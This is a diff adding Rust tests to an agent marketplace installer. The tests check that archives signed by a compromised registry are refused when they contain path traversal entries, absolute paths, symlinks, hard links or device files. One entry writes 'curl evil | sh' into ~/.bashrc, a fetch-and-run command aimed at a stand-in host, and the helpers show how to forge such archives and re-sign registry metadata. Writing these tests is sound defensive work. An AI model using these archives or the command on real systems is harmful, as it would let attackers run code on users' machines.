@@ -571,3 +571,115 @@ fn a_paid_agent_needs_a_licence_at_install_and_before_every_run() {
     assert!(!r.ok, "an expired licence stops the agent");
     assert!(format!("{}{}", r.stdout, r.stderr).contains("licence expired"), "{}{}", r.stdout, r.stderr);
 }
+
+/// A raw tar entry, with whatever path and type an attacker likes.
+fn raw_entry(out: &mut Vec<u8>, name: &str, kind: tar::EntryType, data: &[u8], link: &str) {
+    let mut header = tar::Header::new_gnu();
+    let old = header.as_old_mut();
+    old.name[..name.len()].copy_from_slice(name.as_bytes());
+    old.linkname[..link.len()].copy_from_slice(link.as_bytes());
+    header.set_entry_type(kind);
+    header.set_size(data.len() as u64);
+    header.set_mode(0o644);
+    header.set_cksum();
+    out.extend_from_slice(header.as_bytes());
+    out.extend_from_slice(data);
+    out.resize(out.len().div_ceil(512) * 512, 0);
+}
+
+fn hostile_tgz(entries: &[(&str, tar::EntryType, &[u8], &str)]) -> Vec<u8> {
+    let mut tar = Vec::new();
+    raw_entry(&mut tar, "agent.toml", tar::EntryType::Regular, b"id = \"trojan\"\n", "");
+    for (name, kind, data, link) in entries {
+        raw_entry(&mut tar, name, *kind, data, link);
+    }
+    tar.resize(tar.len() + 1024, 0);
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    std::io::Write::write_all(&mut gz, &tar).expect("gzip");
+    gz.finish().expect("gzip")
+}
+
+/// Adds a package version to the registry with its own keys, bypassing
+/// `paired market publish` (which would never pack such an archive): what a
+/// compromised registry or publisher could serve, correctly signed.
+fn sign_as_compromised_registry(registry: &Path, name: &str, version: &str, bytes: &[u8]) {
+    use tough::{
+        ExpirationEnforcement, RepositoryLoader, TargetName,
+        editor::{RepositoryEditor, signed::PathExists},
+        key_source::{KeySource, LocalKeySource},
+        schema::Target,
+    };
+    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("runtime");
+    runtime.block_on(async {
+        let root = registry.join("root.json");
+        let metadata = registry.join("repository/metadata");
+        let targets = registry.join("repository/targets");
+        let url = |dir: &Path| url::Url::from_directory_path(dir).expect("url");
+        let repo = RepositoryLoader::new(&std::fs::read(&root).expect("root"), url(&metadata), url(&targets))
+            .expiration_enforcement(ExpirationEnforcement::Unsafe)
+            .load()
+            .await
+            .expect("load");
+        let next = |v: std::num::NonZeroU64| v.checked_add(1).expect("version");
+        let (tv, sv, tsv) = (
+            next(repo.targets().signed.version),
+            next(repo.snapshot().signed.version),
+            next(repo.timestamp().signed.version),
+        );
+        let mut editor = RepositoryEditor::from_repo(&root, repo).await.expect("editor");
+        let file_name = format!("{name}-{version}.tgz");
+        let file = registry.join(&file_name);
+        std::fs::write(&file, bytes).expect("write");
+        let mut target = Target::from_path(&file).await.expect("target");
+        target.custom.insert("paired".into(), serde_json::json!({"name": name, "version": version, "daemon": "*"}));
+        let later = jiff::Timestamp::now() + jiff::SignedDuration::from_hours(24 * 30);
+        let target_name = TargetName::new(&file_name).expect("name");
+        editor
+            .add_target(target_name.clone(), target)
+            .expect("add")
+            .targets_version(tv)
+            .expect("tv")
+            .targets_expires(later)
+            .expect("te")
+            .snapshot_version(sv)
+            .snapshot_expires(later)
+            .timestamp_version(tsv)
+            .timestamp_expires(later);
+        let keys: Vec<Box<dyn KeySource>> = ["targets", "snapshot", "timestamp"]
+            .iter()
+            .map(|role| {
+                Box::new(LocalKeySource { path: registry.join(format!("keys/{role}.pk8")) }) as Box<dyn KeySource>
+            })
+            .collect();
+        let signed = editor.sign(&keys).await.expect("sign");
+        signed.write(&metadata).await.expect("write metadata");
+        signed.copy_target(&file, &targets, PathExists::Skip, Some(&target_name)).await.expect("copy");
+    });
+}
+
+#[test]
+fn hostile_archives_signed_by_a_compromised_registry_are_refused() {
+    use tar::EntryType::{Block, Link, Regular, Symlink};
+    let market = Market::new();
+    let cases: [(&str, Vec<u8>, &str); 5] = [
+        ("1.0.1", hostile_tgz(&[("../../.bashrc", Regular, b"curl evil | sh", "")]), "must stay inside"),
+        ("1.0.2", hostile_tgz(&[("/tmp/owned", Regular, b"x", "")]), "must stay inside"),
+        ("1.0.3", hostile_tgz(&[("link", Symlink, b"", "/home")]), "symbolic links"),
+        ("1.0.4", hostile_tgz(&[("hard", Link, b"", "agent.toml")]), "hard links"),
+        ("1.0.5", hostile_tgz(&[("disk", Block, b"", "")]), "special files"),
+    ];
+    for (version, bytes, _) in &cases {
+        sign_as_compromised_registry(&market.registry, "trojan", version, bytes);
+    }
+    for (version, _, expected) in &cases {
+        let err = market.refused(&format!("trojan@{version}"));
+        assert!(err.contains(expected) && err.contains("Nothing was installed"), "{version}: {err}");
+    }
+    assert!(!market.home.path().join(".bashrc").exists());
+    assert!(!Path::new("/tmp/owned").exists());
+    let store = market.home.path().join(".local/share/paired/market/agents/trojan");
+    let left: Vec<String> = std::fs::read_dir(&store)
+        .map(|d| d.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect())
+        .unwrap_or_default();
+    assert!(left.is_empty(), "nothing of a refused package stays: {left:?}");
+}
